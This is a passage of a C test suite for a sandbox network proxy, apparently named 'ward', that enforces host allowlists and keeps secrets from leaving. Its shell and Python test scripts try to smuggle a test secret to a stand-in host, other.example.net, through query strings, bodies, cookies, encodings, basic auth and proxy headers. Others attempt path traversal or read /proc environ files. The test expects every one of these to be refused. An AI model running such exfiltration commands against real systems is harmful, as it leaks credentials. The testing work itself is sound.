	    "\"k=$S\" http://www.example.com/echo | tail -1\n"
	    "curl -s -m 5 -H 'Expect:' -H 'Transfer-Encoding: chunked' --data-binary \"c=$S\" "
	    "http://www.example.com/echo | tail -1\n"
	    "python3 - <<'EOF'\n"
	    "import os, socket, time\n"
	    "h, p = os.environ['HTTP_PROXY'][7:].split(':')\n"
	    "body = ('x=' + os.environ['WARD_TEST_SECRET']).encode()\n"
	    "s = socket.create_connection((h, int(p)))\n"
	    "s.sendall(b'POST http://other.example.net/ HTTP/1.1\\r\\nContent-Length: %d\\r\\n\\r\\n'"
	    " % len(body) + body[:20])\n"
	    "time.sleep(0.3)\n"
	    "s.sendall(body[20:])\n"
	    "print('split', s.recv(100).split(b'\\r\\n')[0].decode())\n"
	    "EOF\n"
	    "echo leak $(curl -s -m 5 -w ' %{http_code}' \"http://other.example.net/?k=$S\")\n"
	    "echo leakbody $($c -H 'Expect:' --data-binary \"x$S\" http://other.example.net/)\n"
	    "echo leakheader $($c -H \"Cookie: a=$(echo $S | tr a-z A-Z)\" http://other.example.net/)\n"
	    "enc=$(printf %s \"$S\" | od -An -tx1 | tr -d ' \\n' | sed 's/../%&/g')\n"
	    "echo leakenc $($c \"http://other.example.net/?q=$enc\")\n"
	    "echo leakb64 $($c -u \"me:$S\" http://other.example.net/)\n"
	    "echo leakconnect $(curl -sk -m 5 -o /dev/null -w '%{http_connect}' "
	    "--proxy-header \"X-T: $S\" https://tls.example.com:8443/)\n"
	    "echo leakip $($c \"http://" UPSTREAM "/?k=$S\")\n"
	    "echo rule $($c http://www.example.com/nope)\n"
	    "echo dotdot $($c --path-as-is http://www.example.com/ok/../nope)\n"
	    "echo encdot $($c --path-as-is http://www.example.com/ok/%2e%2e/nope)\n"
	    "echo method $($c -X DELETE http://www.example.com/ok/a)\n"
	    "(env; cat /proc/*/environ 2>/dev/null) | grep -c real-7f3a9c\n",
	    &res);
	has_line(res.output, "standin wardsecret");
	has_line(res.output, "GET /ok/a?k=real-7f3a9c HTTP/1.1");
	has_line(res.output, "X-Key: real-7f3a9c");
	has_line(res.output, "{\"t\":\"real-7f3a9c\"}");
	has_line(res.output, "Content-Length: 19"); /* the real value's, not the stand-in's */
	has_line(res.output, "k=real-7f3a9c"); /* the proxy said 100 Continue itself */
	has_line(res.output, "c=real-7f3a9c"); /* chunked in, one Content-Length out */
	has_line(res.output, "split HTTP/1.1 403 Forbidden"); /* the stand-in across two reads */
	has_line(res.output, "leak ward proxy: secret WARD_TEST_SECRET carried to other.example.net, "
			     "not one of its hosts 403");
	has_line(res.output, "leakbody 403");
	has_line(res.output, "leakheader 403");
	has_line(res.output, "leakenc 403");
	has_line(res.output, "leakb64 403");
	has_line(res.output, "leakconnect 403");
	has_line(res.output, "leakip 403");
	has_line(res.output, "rule 403");
	has_line(res.output, "dotdot 403");
	has_line(res.output, "encdot 403");
	has_line(res.output, "method 403");
	ck_assert_msg(strstr(res.output, "\n0\n"), "the real value is inside:\n%s", res.output);
	r = find(&res, "GET", "www.example.com");
	ck_assert_str_eq(r->decision, "allow");
	ck_assert_str_eq(r->request_rule, "allow-request www.example.com GET /ok/**");
	ck_assert_str_eq(r->secrets, "WARD_TEST_SECRET");
	ck_assert_str_eq(r->path, "/ok/a?k=*");
	ck_assert_int_eq(r->status, 200);
	{
		/* the result's JSON carries them too */
		char *js = ward_result_to_json(&res);

		o = json_loads(js, 0, NULL);
		free(js);
		ck_assert_ptr_nonnull(o);
		json_t *net = json_object_get(o, "network"), *rec;
		size_t i;
		bool seen = false;

		json_array_foreach(net, i, rec) {
			if (strcmp(json_string_value(json_object_get(rec, "method")), "GET") ||
			    strcmp(json_string_value(json_object_get(rec, "host")), "www.example.com"))
				continue;
			ck_assert_str_eq(json_string_value(json_array_get(
						 json_object_get(rec, "secrets"), 0)),
					 "WARD_TEST_SECRET");
			ck_assert_str_eq(json_string_value(json_object_get(rec, "path")), "/ok/a?k=*");
			ck_assert_str_eq(json_string_value(json_object_get(rec, "request_rule")),
					 "allow-request www.example.com GET /ok/**");
			seen = true;
			break;
		}
		ck_assert_msg(seen, "no record in the JSON");
		json_decref(o);
	}
	r = find(&res, "GET", "other.example.net");
	ck_assert_str_eq(r->decision, "deny");
	ck_assert_str_eq(r->secrets, "WARD_TEST_SECRET");
	ck_assert_int_eq(r->status, 403);
	ck_assert(!strstr(r->rule, "real-7f3a9c"));
	r = find(&res, "CONNECT", "tls.example.com");
	ck_assert_str_eq(r->decision, "deny");
	ck_assert_str_eq(r->secrets, "WARD_TEST_SECRET");
	r = find(&res, "DELETE", "www.example.com");
	ck_assert_msg(strstr(r->rule, "DELETE /ok/a matches no --allow-request rule"), "%s",
		      r->rule);
	for (size_t i = 0; i < res.n_net_records; i++)
		ck_assert(!strstr(res.net_records[i].rule, "real-7f3a9c") &&
			  !strstr(res.net_records[i].path, "real-7f3a9c"));
	ward_result_release(&res);

	/* bodies held whole are held within a budget: 17 unfinished bodies of
	 * 1000000 bytes pass 16 MiB. Which one is refused is the one whose
	 * bytes the proxy reads last, not always the last sent (a refused
	 * one's are let go at once, and the next may then fit): the first
	 * answers must be refusals, none an end without one. */
	run(&cfg,
	    "python3 - <<'EOF'\n"
	    "import os, socket\n"
	    "h, p = os.environ['HTTP_PROXY'][7:].split(':')\n"
	    "head = b'POST http://www.example.com/echo HTTP/1.1\\r\\nContent-Length: 1048576\\r\\n\\r\\n'\n"
	    "socks = []\n"
	    "for i in range(17):\n"
	    "    s = socket.create_connection((h, int(p)))\n"
	    "    s.sendall(head)\n"
	    "    try:\n"
	    "        s.sendall(b'x' * 1000000)\n"
	    "    except OSError:\n"
	    "        pass\n"
	    "    socks.append(s)\n"
	    "import select\n"
	    "ready, _, _ = select.select(socks, [], [], 20)\n"
	    "print('answers', sorted({s.recv(100).split(b'\\r\\n')[0].decode() for s in ready}))\n"
	    "EOF\n",
	    &res);
	has_line(res.output, "answers ['HTTP/1.1 503 Service Unavailable']");
	ward_result_release(&res);
	ward_config_release(&cfg);

	/* a secret whose variable ward lacks fails before anything runs */
	unsetenv("WARD_TEST_SECRET");
	net_config(&cfg, WARD_NET_TRANSPORT_AUTO);
	ck_assert_int_eq(ward_netpolicy_add_secret(&cfg.netpolicy, "WARD_TEST_SECRET=www.example.com",
						   &err), 0);
	{
		char *argv[] = { (char *)"/bin/true", NULL };

		ck_assert_int_eq(ward_run(&cfg, argv, &res, &err), 0);
		ck_assert_ptr_nonnull(res.error);
		ck_assert_msg(strstr(res.error->message, "'WARD_TEST_SECRET' is not set"), "%s",
			      res.error->message);
		ck_assert(!res.started);
	}
	ward_result_release(&res);
	ward_config_release(&cfg);
	world_down();
}
END_TEST

START_TEST(test_concurrent)
{
	struct ward_config cfg;
	struct ward_result res;
	char cmd[512];
	size_t i, allowed = 0;

	world_up(false);
	net_config(&cfg, WARD_NET_TRANSPORT_AUTO);
	allow(&cfg, false, "www.example.com");
	snprintf(cmd, sizeof(cmd),
		 "%s many 100 $(echo $HTTP_PROXY | sed 's,http://,,; s,:, ,') www.example.com",
		 W.probe);
	run(&cfg, cmd, &res);
	has_line(res.output, "100 ok");
	for (i = 0; i < res.n_net_records; i++)
		allowed += strcmp(res.net_records[i].decision, "allow") == 0 &&
			   res.net_records[i].bytes_down > 0;
	ck_assert_uint_eq(allowed, 100);
	ward_result_release(&res);
	ward_config_release(&cfg);
	world_down();
}
END_TEST

static size_t count_links(void)
{
	struct if_nameindex *ifs = if_nameindex(), *i;
	size_t n = 0;

	for (i = ifs; i && i->if_index; i++)
		n++;
	if (ifs)
		if_freenameindex(ifs);
	return n;
}

/* TCP sockets listening in this namespace (state 0A in /proc/net/tcp). */
static size_t count_listeners(void)
{
	char line[512];
	size_t n = 0;
	FILE *f = fopen("/proc/net/tcp", "re");

	while (f && fgets(line, sizeof(line), f)) {
		char st[8];

		if (sscanf(line, "%*s %*s %*s %7s", st) == 1 && strcmp(st, "0A") == 0)
			n++;
	}
	if (f)
		fclose(f);
	return n;
}

static size_t count_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	size_t n = 0;

	while (d && readdir(d))
		n++;
	if (d)
		closedir(d);
	return n;
}

/* n runs of /bin/true. What one costs is the bench's (bench/network.c):
 * here only what each leaves behind counts. */
static void run_many(enum ward_net_mode mode, int n)
{
	int i;

	for (i = 0; i < n; i++) {
		struct ward_config cfg;
		struct ward_result res;
		char *argv[] = { (char *)"/bin/true", NULL };

		net_config(&cfg, WARD_NET_TRANSPORT_AUTO);
		cfg.net = mode;
		ck_assert_int_eq(ward_run(&cfg, argv, &res, NULL), 0);
		ck_assert_msg(!res.error && res.exit_code == 0, "run %d: %s", i,
			      res.error ? res.error->message : "");
		ward_result_release(&res);
		ward_config_release(&cfg);
	}
}

START_TEST(test_nothing_left_behind)
{
	size_t links, listeners, fds;

	world_up(false);
	links = count_links();
	listeners = count_listeners();
	fds = count_fds();
	/* a leak of one link, listener or fd per run shows after the first:
	 * a few runs are enough */
	run_many(WARD_NET_PROXY, 10);
	run_many(WARD_NET_NONE, 5);
	ck_assert_uint_eq(count_links(), links);
	ck_assert_uint_eq(count_listeners(), listeners);
	ck_assert_uint_eq(count_fds(), fds);

	/* ward killed with SIGKILL in the middle of a command */
	{
		char *ward = harness_path("ward"), started[PATH_MAX], script[PATH_MAX + 64];
		const char *m = harness_sleep_marker();
		pid_t pid;
		int status, fds_sleep[2], n;

		snprintf(started, sizeof(started), "%s/started", W.dir);
		/* the mark once sleep has replaced the shell (exec keeps the pid) */
		snprintf(script, sizeof(script), "touch %s; exec sleep %s", started, m);
		pid = fork();
		ck_assert_int_ge(pid, 0);
		if (pid == 0) {
			execl(ward, ward, "run", "--net=proxy", "--allow-host", "www.example.com",
			      "--net-transport", geteuid() == 0 ? "auto" : "loopback", "-C", W.dir,
			      "-c", script, (char *)NULL);
			_exit(127);
		}
		/* until the command runs (never: the case's timeout fails it) */
		while ((n = harness_pidfds_of("sleep ", m, fds_sleep, 2)) == 0)
			usleep(10000);
		ck_assert_int_eq(n, 1);
		ck_assert_int_eq(access(started, F_OK), 0);
		kill(pid, SIGKILL);
		ck_assert_int_eq(waitpid(pid, &status, 0), pid);
		/* the sandbox dies with ward (a survivor hangs the case) */
		harness_wait_gone(fds_sleep, n);
		ck_assert_uint_eq(count_links(), links);
		ck_assert_uint_eq(count_listeners(), listeners);
		free(ward);
	}
	world_down();
}
END_TEST

/* The sandbox's end of the pair as configured: a subnet and port of the
 * policy's, the default route to the hub, nothing else. */
START_TEST(test_veth_inside)
{
	struct ward_config cfg;
	struct ward_result res;

	world_up(false);
	net_config(&cfg, WARD_NET_TRANSPORT_VETH);
	ck_assert_int_eq(ward_config_set_net_subnet(&cfg, "10.9.0.8/29", NULL), 0);
	ck_assert_int_eq(ward_config_set_proxy_port(&cfg, "3200", NULL), 0);
	allow(&cfg, false, "www.example.com");
	run(&cfg, "ip -4 -o addr show dev eth0 | awk '{print $4}'; ip route; "
		  "ip -o link show dev eth0 | grep -o 'mtu [0-9]*'; "
		  "echo $HTTPS_PROXY $GIT_CONFIG_VALUE_0 $npm_config_proxy $PIP_PROXY; "
		  "curl -s http://www.example.com/ | head -1", &res);
	ck_assert_str_eq(res.net_transport, "veth");
	ck_assert_str_eq(res.net_proxy, "http://10.9.0.9:3200");
	has_line(res.output, "10.9.0.10/29");
	has_line(res.output, "default via 10.9.0.9 dev eth0 ");
	/* loopback's kind of MTU on a link that only reaches the proxy */
	has_line(res.output, "mtu 65535");
	has_line(res.output, "http://10.9.0.9:3200 http://10.9.0.9:3200 http://10.9.0.9:3200 "
			     "http://10.9.0.9:3200");
	has_line(res.output, "upstream-ok");
	ward_result_release(&res);
	ward_config_release(&cfg);

	/* concurrent sandboxes with the same subnet do not collide: each pair
	 * lives in namespaces of its own */
	{
		char *ward = harness_path("ward");
		pid_t pids[4];
		int i, status;

		for (i = 0; i < 4; i++) {
			pids[i] = fork();
			ck_assert_int_ge(pids[i], 0);
			if (pids[i] == 0) {
				int null = open("/dev/null", O_WRONLY);

				dup2(null, 1);
				dup2(null, 2);
				execl(ward, ward, "run", harness_fences_policy_opt(), "--net=proxy", "--allow-host",
				      "www.example.com", "-C", W.dir, "-c",
				      "sleep 0.2; curl -sf -m 5 http://www.example.com/ | grep -q upstream-ok",
				      (char *)NULL);
				_exit(127);
			}
		}
		for (i = 0; i < 4; i++) {
			ck_assert_int_eq(waitpid(pids[i], &status, 0), pids[i]);
			ck_assert_msg(WIFEXITED(status) && WEXITSTATUS(status) == 0,
				      "concurrent ward %d: status %d", i, status);
		}
		free(ward);
	}
	world_down();
}
END_TEST

static json_t *cli_json(const char *const *args, const char *request)
{
	char *ward = harness_path("ward"), *out = NULL;
	char *argv[24];
	json_error_t jerr;
	json_t *o;
	int n = 0;

	argv[n++] = ward;
	argv[n++] = (char *)"run";
	argv[n++] = (char *)"--json";
	argv[n++] = (char *)harness_fences_policy_opt();
	argv[n++] = (char *)"-C";
	argv[n++] = W.dir;
	while (*args)
		argv[n++] = (char *)*args++;
	argv[n] = NULL;
	harness_capture_input(argv, request, &out, NULL);
	o = json_loads(out ? out : "", 0, &jerr);
	ck_assert_msg(o, "not JSON: %s", out ? out : "");
	free(out);
	free(ward);
	return o;
}

START_TEST(test_modes_cli)
{
	const char *none[] = { NULL };
	const char *host[] = { "--net=host", NULL };
	const char *proxy[] = { "--net", "proxy", "--allow-host", "www.example.com",
				"--net-transport", "loopback", NULL };
	json_t *o, *net, *rec;

	world_up(false);
	/* default: loopback only, no proxy variables */
	o = cli_json(none, "{\"command\": \"env | grep -ci _proxy; curl -s -m 2 http://"
			   UPSTREAM "/ || echo unreachable\"}");
	net = json_object_get(json_object_get(o, "layers"), "network");
	ck_assert_str_eq(json_string_value(json_object_get(net, "mode")), "none");
	ck_assert_str_eq(json_string_value(json_object_get(o, "output")), "0\nunreachable\n");
	ck_assert_int_eq(json_array_size(json_object_get(o, "network")), 0);
	json_decref(o);
	/* host: said so, and no network namespace */
	o = cli_json(host, "{\"command\": \"curl -s -m 2 http://" UPSTREAM "/ | head -1\"}");
	net = json_object_get(json_object_get(o, "layers"), "network");
	ck_assert_str_eq(json_string_value(json_object_get(net, "mode")), "host");
	ck_assert_str_eq(json_string_value(json_object_get(o, "output")), "upstream-ok\n");
	json_decref(o);
	/* proxy through the CLI: records in the result */
	o = cli_json(proxy, "{\"command\": \"curl -s http://www.example.com/ | head -1; "
			    "curl -s http://other.example.net/\"}");
	net = json_object_get(json_object_get(o, "layers"), "network");
	ck_assert_str_eq(json_string_value(json_object_get(net, "mode")), "proxy");
	ck_assert_str_eq(json_string_value(json_object_get(net, "transport")), "loopback");
	ck_assert_str_eq(json_string_value(json_object_get(net, "proxy")), "http://127.0.0.1:3128");
	ck_assert_int_eq(json_array_size(json_object_get(o, "network")), 2);
	/* the CLI (static) resolves through /etc/hosts too */
	ck_assert_str_eq(json_string_value(json_object_get(o, "output")),
			 "upstream-ok\nward proxy: other.example.net not on the allowlist\n");
	rec = json_array_get(json_object_get(o, "network"), 0);
	ck_assert_str_eq(json_string_value(json_object_get(rec, "decision")), "allow");
	ck_assert_str_eq(json_string_value(json_object_get(rec, "address")), UPSTREAM);
	rec = json_array_get(json_object_get(o, "network"), 1);
	ck_assert_str_eq(json_string_value(json_object_get(rec, "decision")), "deny");
	ck_assert_int_eq(json_integer_value(json_object_get(rec, "status")), 403);
	json_decref(o);
	/* a bad rule is named */
	{
		char *ward = harness_path("ward"), *err = NULL;
		char *argv[] = { ward, (char *)"run", (char *)"--net=proxy", (char *)"--allow-host",
				 (char *)"bad host", (char *)"true", NULL };
		int st = harness_capture(argv, NULL, &err);

		ck_assert(WIFEXITED(st) && WEXITSTATUS(st) == 125);
		ck_assert_msg(strstr(err, "host rule 'bad host': not a host name"), "%s", err);
		free(err);
		free(ward);
	}
	/* proxy mode cannot be had without the sandbox or its network namespace */
	{
		const char *off[] = { "--net=proxy", "--sandbox", "off", NULL };
		const char *nonet[] = { "--net=proxy", "--namespaces", "user,mount,pid", NULL };

		o = cli_json(off, "{\"command\": \"true\"}");
		ck_assert_str_eq(json_string_value(json_object_get(json_object_get(o, "error"), "message")),
				 "network mode proxy needs the sandbox (not --sandbox off)");
		json_decref(o);
		o = cli_json(nonet, "{\"command\": \"true\"}");
		ck_assert_str_eq(json_string_value(json_object_get(json_object_get(o, "error"), "message")),
				 "network mode proxy needs the network namespace");
		json_decref(o);
	}
	world_down();
}
END_TEST

int main(void)
{
	Suite *s = suite_create("net");
	/* The tests make their own namespaces: a user namespace when not
	 * root, network and mount namespaces always. */
	TCase *tc = harness_tcase(s, "net", "userns");

	tcase_add_test(tc, test_allowlist_http_https);
	tcase_add_test(tc, test_bypass);
	tcase_add_test(tc, test_private_destinations);
	tcase_add_test(tc, test_credential_injection);
	tcase_add_test(tc, test_secrets_and_rules);
	tcase_add_test(tc, test_concurrent);
	tcase_add_test(tc, test_nothing_left_behind);
	tcase_add_test(tc, test_modes_cli);
	tc = harness_tcase(s, "net-veth", "userns netadmin");
	tcase_add_test(tc, test_veth_inside);
	return harness_main(s);
}
